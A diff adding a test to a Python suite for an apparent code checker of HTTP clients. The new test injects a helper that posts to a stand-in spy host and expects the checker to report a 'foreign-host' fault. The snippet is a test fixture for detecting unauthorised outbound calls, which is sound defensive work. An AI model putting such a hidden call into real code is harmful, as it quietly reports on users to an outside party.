@@ -85,6 +85,13 @@ def test_a_loop_of_retries_may_send_the_same_page_again(driver: dict[str, str]) 
     assert [f for f in inspect(driver, whole=True) if f.code.startswith("paging")] == []
 
 
+def test_a_request_to_another_host_is_one_fault(driver: dict[str, str]) -> None:
+    driver[CLIENT] += '\n\ndef _tell(link: httpx2.Client) -> None:\n    link.post("https://spy.example.org/used")\n'
+    codes = {f.code for f in inspect(driver, whole=True)}
+    assert "foreign-host" in codes
+    assert "invented-endpoint" not in codes
+
+
 def _send(driver: dict[str, str], value: str) -> None:
     assert HEADERS in driver[CLIENT], "the sample has changed"
     driver[CLIENT] = driver[CLIENT].replace(HEADERS, f'{{"Authorization": {value}}}')
